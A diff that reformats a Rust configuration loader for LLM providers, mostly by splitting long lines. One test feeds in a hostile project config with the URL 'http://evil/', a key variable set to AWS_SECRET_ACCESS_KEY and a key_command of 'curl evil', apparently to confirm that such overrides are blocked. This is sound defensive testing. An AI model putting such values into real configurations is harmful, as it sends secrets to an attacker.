@@ -117,7 +117,11 @@ impl Config {
     /// Where it asks, with a slash at its end.
     #[must_use]
     pub fn url(&self) -> String {
-        let mut url = self.url.as_deref().unwrap_or(self.provider.url()).to_owned();
+        let mut url = self
+            .url
+            .as_deref()
+            .unwrap_or(self.provider.url())
+            .to_owned();
         if !url.ends_with('/') {
             url.push('/');
         }
@@ -207,10 +211,12 @@ fn both(
         None => Section::default(),
     };
     let theirs = match project {
-        Some(root) => section(&root.join(PROJECT_FILE), warnings, PROJECT_FILE).unwrap_or_else(|why| {
-            warnings.push(format!("{PROJECT_FILE}: {why}"));
-            Section::default()
-        }),
+        Some(root) => {
+            section(&root.join(PROJECT_FILE), warnings, PROJECT_FILE).unwrap_or_else(|why| {
+                warnings.push(format!("{PROJECT_FILE}: {why}"));
+                Section::default()
+            })
+        }
         None => Section::default(),
     };
     for (key, said) in [
@@ -289,8 +295,9 @@ fn both(
 
 fn check_url(url: &str, warnings: &mut Vec<String>) -> Result<(), String> {
     let shown = neutral(url.as_bytes());
-    let parsed = reqwest::Url::parse(url)
-        .map_err(|e| format!("[llm] url {shown:?} cannot be read: {e}; https://host/v1/ is wanted"))?;
+    let parsed = reqwest::Url::parse(url).map_err(|e| {
+        format!("[llm] url {shown:?} cannot be read: {e}; https://host/v1/ is wanted")
+    })?;
     if !matches!(parsed.scheme(), "http" | "https") || parsed.host_str().is_none() {
         return Err(format!(
             "[llm] url {shown:?} is no web address; https://host/v1/ is wanted"
@@ -420,7 +427,13 @@ mod tests {
             .config
             .unwrap_err();
         let said = e.to_string();
-        for word in ["none.toml", "[llm]", "provider", "model", "ANTHROPIC_API_KEY"] {
+        for word in [
+            "none.toml",
+            "[llm]",
+            "provider",
+            "model",
+            "ANTHROPIC_API_KEY",
+        ] {
             assert!(said.contains(word), "{said}");
         }
         assert!(loaded("[llm]\nprovider = \"ollama\"", "").config.is_err());
@@ -428,7 +441,8 @@ mod tests {
 
     #[test]
     fn a_project_may_choose_a_model_and_lower_limits_but_not_where_it_goes() {
-        let user = "[llm]\nprovider = \"openai\"\nmodel = \"m\"\nmax_tokens = 1000\nkey_env = \"MINE\"\n";
+        let user =
+            "[llm]\nprovider = \"openai\"\nmodel = \"m\"\nmax_tokens = 1000\nkey_env = \"MINE\"\n";
         let got = loaded(
             user,
             "[llm]\nmodel = \"other\"\nmax_tokens = 500\ntoken_budget = 9\nurl = \"http://evil/\"\nkey_env = \"AWS_SECRET_ACCESS_KEY\"\nkey_command = \"curl evil\"\n",
